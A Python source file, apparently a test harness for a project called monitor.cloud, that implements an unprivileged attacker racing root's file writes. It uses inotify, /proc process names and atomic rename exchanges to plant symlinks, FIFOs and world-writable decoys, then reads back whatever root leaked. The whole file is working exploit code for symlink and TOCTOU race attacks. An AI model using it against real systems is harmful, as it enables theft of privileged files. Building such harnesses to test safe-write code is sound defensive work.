# Copyright (c) 2026 monitor.cloud contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""An unprivileged user who owns a directory that root writes to, and swaps names there while root writes.

It learns of each step by inotify, and of the steps within a directory that it cannot enter by the names of the running
processes, then puts a decoy at the name that root uses next. Runs on its own: no imports but Python's library.
"""

import contextlib
import ctypes
import dataclasses
import json
import os
import select
import struct
import sys
import time

CREATE, OPEN, MODIFY, ATTRIB = 0x100, 0x20, 0x2, 0x4
CLOSE_WRITE, MOVED_FROM, MOVED_TO, DELETE = 0x8, 0x40, 0x80, 0x200
_ALL = CREATE | OPEN | MODIFY | ATTRIB | CLOSE_WRITE | MOVED_FROM | MOVED_TO | DELETE
_AT_FDCWD, _EXCHANGE, _NEWNS, _NEWUSER = -100, 2, 0x20000, 0x10000000
_LIBC = ctypes.CDLL(None, use_errno=True)
# Processes by which each step is recognised if it cannot be seen.
_PROCESSES = {
    "content": ("cat", "dd"),
    "owner": ("chown",),
    "mode": ("chmod",),
    "backup": ("ln", "cp"),
    "move": ("mv",),
    "clean-up": ("rm", "rmdir"),
}
# No process has the number.
LEFTOVER = ".agent.conf.writing-99999999-aB3dE6gH"
_DECOY = "decoy"
_TURN = 0.0001
# Ten times as long as a writer needs on a busy machine; it takes a processor that others need.
_ACTIVE = 1.0


@dataclasses.dataclass(frozen=True)
class Plan:
    """One attack: when (``step``), which name is replaced (``target``), by what (``decoy``), once or in turns.

    ``target``: entry (the temporary one), leftover (one of a killed writer), name (the file), both, directory, or
    parent (the one that is made). ``name`` is the file's path within the directory.
    """

    step: str
    target: str
    decoy: str
    turns: bool
    base: str
    directory: str
    name: str
    victim: str

    @property
    def swapped_in(self) -> str:
        """The directory that the attacker changes."""
        return self.base if self.target in ("directory", "parent") else self.directory


class Attack:
    """A plan that is under way."""

    def __init__(self, plan: Plan, events: int) -> None:
        self.plan = plan
        self.opened: list[int] = []
        self.entry: str | None = None
        self.begun = self.modified = False
        self._since = 0.0
        self.created = self.attributes = 0
        self._events = events
        self._watches: set[int] = set()
        self._trap: tuple[int, int] | None = None
        self._decoys = [self._make(f"{_DECOY}-1", plan.decoy)]
        if plan.target == "both":
            self._decoys.append(self._make(f"{_DECOY}-2", "link"))
        for watched in dict.fromkeys([plan.base, plan.directory]):
            with contextlib.suppress(FileNotFoundError):
                os.stat(watched)
                self._watch(watched, _ALL)

    def _watch(self, path: str, mask: int) -> int:
        watch = int(_LIBC.inotify_add_watch(self._events, os.fsencode(path), mask))
        self._watches.add(watch)
        return watch

    def _make(self, name: str, kind: str) -> str:
        plan, path = self.plan, os.path.join(self.plan.swapped_in, name)
        if kind == "link":
            os.symlink(os.path.join(plan.victim, "secret"), path)
        elif kind == "victims":
            os.symlink(plan.victim, path)
        elif kind == "empty victims":
            os.symlink(os.path.join(plan.victim, "empty"), path)
        elif kind == "trap":
            # Empty, as a new directory is; what is made in there is replaced.
            os.mkdir(path)
            os.chmod(path, 0o777)
            self.opened.append(os.open(path, os.O_RDONLY))
            self._trap = self._watch(path, CREATE), self.opened[-1]
            self._make(f"{_DECOY}-0", "link")
        elif kind == "fifo":
            os.mkfifo(path)
            os.chmod(path, 0o666)
            self.opened.append(os.open(path, os.O_RDWR | os.O_NONBLOCK))
        elif kind == "own":
            self._own(path)
        else:
            os.mkdir(path)
            os.chmod(path, 0o777)
            for file in (os.path.basename(plan.name), "old", "copy"):
                if kind == "links":
                    os.symlink(os.path.join(plan.victim, "secret"), os.path.join(path, file))
                else:
                    self._own(os.path.join(path, file))
        return path

    def _own(self, path: str) -> None:
        self.opened.append(os.open(path, os.O_RDWR | os.O_CREAT, 0o666))
        os.fchmod(self.opened[-1], 0o666)

    def run(self, control: int) -> None:
        """Attack until there is something to read from ``control``."""
        if self.plan.target == "leftover" or self.plan.step in ("removal", "appearance at once"):
            self._strike()
        while True:
            active = (self.begun or self.created) and time.monotonic() - self._since < _ACTIVE
            ready = select.select([self._events, control], [], [], self._pause() if active else None)[0]
            if control in ready:
                return
            if self._events in ready:
                self._read()
            if active and self.begun and self.plan.turns:
                self._swap()
            elif active and not self.begun and self._runs():
                self._strike()

    def _pause(self) -> float | None:
        """Seconds until there is something to do if nothing happens; None: nothing."""
        if self.begun:
            return _TURN if self.plan.turns else None
        return 0 if self.plan.step in _PROCESSES else None

    def _read(self) -> None:
        data = os.read(self._events, 65536)
        while data:
            watch, mask, _cookie, length = struct.unpack_from("iIII", data)
            name = os.fsdecode(data[16 : 16 + length].rstrip(b"\0"))
            data = data[16 + length :]
            if watch not in self._watches:
                # Of the attack before, or about a watch that ended.
                continue
            if self._trap and watch == self._trap[0]:
                _exchange(os.path.join(self.plan.swapped_in, f"{_DECOY}-0"), name, self._trap[1])
            else:
                self._see(mask, name)

    def _see(self, mask: int, name: str) -> None:
        if name.startswith(_DECOY):
            return
        if mask & CREATE:
            self._since = self._since or time.monotonic()
            self.created += 1
            if name.startswith("."):
                self.entry = name
            with contextlib.suppress(OSError):
                path = os.path.join(self.plan.directory, name)
                self.opened.append(os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW))
        self.modified |= bool(mask & MODIFY)
        self.attributes += bool(mask & ATTRIB and self.modified)
        if not self.begun and self._is_step(mask, name):
            self._strike()

    def _is_step(self, mask: int, name: str) -> bool:
        step = self.plan.step
        if step in ("creation", "appearance", "appearance beside others", "parents"):
            return bool(mask & CREATE)
        if step == "content":
            return bool(mask & OPEN) and name == self.entry
        if step == "owner":
            return bool(mask & CLOSE_WRITE) and self.modified
        if step == "mode":
            return self.attributes == 1
        if step == "backup":
            return bool(mask & CREATE) and self.created == 2
        if step == "move":
            return self.attributes == 2
        return step == "clean-up" and bool(mask & (DELETE | MOVED_FROM))

    def _runs(self) -> bool:
        tools = _PROCESSES.get(self.plan.step, ())
        for process in os.listdir("/proc") if tools else ():
            if process.isdigit():
                with contextlib.suppress(OSError), open(f"/proc/{process}/comm", encoding="utf-8") as file:
                    if file.read().strip() in tools:
                        return True
        return False

    def _strike(self) -> None:
        self._since = self._since or time.monotonic()
        self.begun = True
        self._swap()

    def _swap(self) -> None:
        plan = self.plan
        entry = os.path.join(plan.directory, self.entry) if self.entry else None
        file = os.path.join(plan.directory, plan.name)
        targets: dict[str, list[str | None]] = {
            "entry": [entry],
            "leftover": [os.path.join(plan.directory, LEFTOVER)],
            "name": [file],
            "both": [entry, file],
            "directory": [plan.directory],
            "parent": [plan.directory],
        }
        for target, decoy in zip(targets[plan.target], self._decoys, strict=False):
            if target is not None:
                _exchange(decoy, target)

    def loot(self, root: str) -> str:
        """All that the attacker can read by now."""
        found = []
        for descriptor in self.opened:
            with contextlib.suppress(OSError):
                # A FIFO has no position.
                with contextlib.suppress(OSError):
                    os.lseek(descriptor, 0, os.SEEK_SET)
                found.append(os.read(descriptor, 65536))
            os.close(descriptor)
        for watch in self._watches:
            _LIBC.inotify_rm_watch(self._events, watch)
        for directory, _directories, files in os.walk(root):
            for file in files:
                with contextlib.suppress(OSError):
                    path = os.path.join(directory, file)
                    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
                    found.append(os.read(descriptor, 65536))
                    os.close(descriptor)
        return b"\n".join(found).decode(errors="replace")


def _exchange(one: str, other: str, directory: int = _AT_FDCWD) -> None:
    """Swap two names in one step, the other in the directory given; a name that is missing is taken by a move."""
    names = _AT_FDCWD, os.fsencode(one), directory, os.fsencode(other)
    if _LIBC.renameat2(*names, _EXCHANGE) != 0:
        _LIBC.renameat2(*names, 0)


def serve(control: int, replies: int) -> None:
    """Attack as each line of the control requires; at the next line, report whether, and what could be read."""
    # One for all attacks: to close it takes longer than a writer needs.
    events = int(_LIBC.inotify_init1(os.O_NONBLOCK))
    with open(control, encoding="utf-8", closefd=False) as lines, open(replies, "w", encoding="utf-8") as out:
        while line := lines.readline():
            given = json.loads(line)
            attack = Attack(Plan(**given["plan"]), events)
            print("ready", file=out, flush=True)
            attack.run(control)
            lines.readline()
            print(json.dumps([attack.begun, attack.loot(given["root"])]), file=out, flush=True)


if __name__ == "__main__":
    os.umask(0)
    if "elder" in sys.argv:
        # Keeps the mounts as they are now: what is mounted later does not keep this process from moving a name.
        _LIBC.unshare(_NEWUSER | _NEWNS)
        print("ready", flush=True)
    serve(sys.stdin.fileno(), sys.stdout.fileno())
